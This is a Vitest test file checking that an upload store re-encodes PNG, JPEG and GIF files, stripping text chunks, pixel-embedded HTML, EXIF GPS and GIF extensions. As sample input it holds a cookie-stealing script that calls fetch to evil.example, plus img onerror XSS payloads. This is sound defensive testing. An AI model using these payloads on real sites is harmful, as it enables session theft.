import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { eq } from 'drizzle-orm';
import * as t from '@/db/schema';
import { seedDemo } from '@/db/seed';
import { readMaterialBytes, saveMaterial } from '@/db/materials/store';
import { freshDb, TEST_TARGETS, type TestDb } from '../support/db';
import { gif, gifSubBlocks, ihdr, png, PNG_SIGNATURE, pngChunk, textChunk } from '../support/images';

// Stored uploads are the decoder's re-encoding, never the bytes sent: text chunks, EXIF and whatever hides
// in the pixel stream are never stored.

/** The chunk types of a PNG, in order. */
function chunkTypes(b: Buffer): string[] {
  const out: string[] = [];
  for (let pos = 8; pos + 8 <= b.length; pos += 12 + b.readUInt32BE(pos)) out.push(b.toString('latin1', pos + 4, pos + 8));
  return out;
}

const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';

describe.each(TEST_TARGETS)('re-encoded uploads on %s', (target) => {
  let h: TestDb;
  let owner: string;
  beforeAll(async () => {
    h = await freshDb(target);
    await seedDemo(h.db, { quiet: true });
    owner = (await h.db.select().from(t.users)).find((u) => u.email === 'filer@beian.example')!.id;
  });
  afterAll(() => h?.close());
  const store = async (bytes: Buffer, fileName: string) => {
    const m = await saveMaterial(h.db, { ownerId: owner, bytes, fileName, kind: 'domain_certificate' });
    return { m, stored: (await readMaterialBytes(h.db, m.id))! };
  };

  it('a PNG with a script in tEXt, zTXt and iTXt chunks is stored without any text chunk', async () => {
    const zTXt = pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(SCRIPT)]));
    const iTXt = pngChunk('iTXt', Buffer.concat([Buffer.from('Description\0\x01\0\0\0', 'latin1'), deflateSync(SCRIPT)]));
    // Markup the first gate does not look for (an event handler on an <img>), in plain text.
    const tEXt = textChunk('<img src=x onerror=alert(document.domain)>');
    const upload = png({ extraChunks: [zTXt, iTXt, tEXt] });
    expect(chunkTypes(upload)).toEqual(expect.arrayContaining(['zTXt', 'iTXt', 'tEXt']));
    const { m, stored } = await store(upload, '域名证书.png');
    expect(chunkTypes(stored).filter((c) => /^(tEXt|zTXt|iTXt)$/.test(c))).toEqual([]);
    expect(stored.toString('latin1')).not.toMatch(/onerror|<img|Comment|Description/);
    expect((await sharp(stored).metadata()).format).toBe('png');
    const [row] = await h.db.select().from(t.materials).where(eq(t.materials.id, m.id));
    expect(row!.size).toBe(stored.length);
  });

  it('a PNG with an HTML page in its (uncompressed) pixel data is stored without that page', async () => {
    const width = 256;
    const html = Buffer.from(`<html><body>${SCRIPT}</body></html>`.padEnd(width, ' '), 'latin1');
    const rows = Array.from({ length: 1200 }, () => Buffer.concat([Buffer.from([0]), html]));
    const idat = pngChunk('IDAT', deflateSync(Buffer.concat(rows), { level: 0 })); // stored blocks: the text is in the file as is
    const upload = Buffer.concat([PNG_SIGNATURE, ihdr(width, 1200), idat, pngChunk('IEND')]);
    expect(upload.toString('latin1')).toContain('<script>');
    const { stored } = await store(upload, 'page.png');
    expect(stored.toString('latin1')).not.toMatch(/<script|<html/i);
  });

  it('a JPEG with EXIF GPS is stored without EXIF, upright', async () => {
    // A noisy photo (so it is over the 200 KB minimum) with a position and an orientation, written by sharp.
    const photo = await sharp({ create: { width: 500, height: 700, channels: 3, background: '#888', noise: { type: 'gaussian', mean: 128, sigma: 40 } } })
      .jpeg({ quality: 95 })
      .withMetadata({ orientation: 6 })
      .withExifMerge({ IFD0: { Make: 'PhoneMaker', Model: 'Phone 1' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '30/1 15/1 3000/100', GPSLongitudeRef: 'E', GPSLongitude: '120/1 9/1 0/1' } })
      .toBuffer();
    const sent = await sharp(photo).metadata();
    expect(sent.exif).toBeDefined();
    expect(sent.orientation).toBe(6);
    expect(photo.length).toBeGreaterThan(200 * 1024);
    const { stored } = await store(photo, '身份证.jpg');
    const kept = await sharp(stored).metadata();
    expect(kept.format).toBe('jpeg');
    expect(kept.exif).toBeUndefined();
    expect(stored.includes(Buffer.from('Exif\0\0', 'latin1'))).toBe(false);
    expect(stored.toString('latin1')).not.toMatch(/PhoneMaker|GPS/);
    // Orientation 6 (rotate 90°) was applied to the pixels before EXIF was dropped.
    expect([kept.width, kept.height]).toEqual([700, 500]);
  });

  it('a GIF with an application extension is stored as a GIF without it', async () => {
    const appData = Buffer.concat([Buffer.from([0x21, 0xff, 11]), Buffer.from('EVILAPP1.0', 'latin1'), Buffer.from([0x00]), gifSubBlocks(Buffer.from('<img src=x onerror=alert(1)>', 'latin1'))]);
    const upload = gif({ extensions: [appData] });
    expect(upload.toString('latin1')).toContain('onerror');
    const { stored } = await store(upload, '截图.gif');
    expect(stored.subarray(0, 6).toString('latin1')).toBe('GIF89a');
    expect(stored.toString('latin1')).not.toMatch(/onerror|EVILAPP/);
  });
});
